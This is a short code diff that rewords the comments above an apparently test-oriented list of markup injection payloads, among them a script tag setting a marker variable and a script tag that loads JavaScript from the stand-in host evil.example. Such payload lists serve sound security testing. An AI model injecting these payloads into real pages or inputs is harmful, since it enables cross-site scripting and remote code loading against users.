@@ -1,7 +1,7 @@
-/** What a text runs when it becomes markup or code. */
+/** The code that a text runs if it is interpreted as markup or code. */
 const run = 'window.ran=1';
 
-/** Texts that run something wherever they are taken for markup, for code or for an address. */
+/** Texts that run code wherever they are interpreted as markup, as code or as a URL. */
 export const markupPayloads: readonly string[] = [
   `<script>${run}</script>`,
   `<script src="https://evil.example/x.js"></script>`,
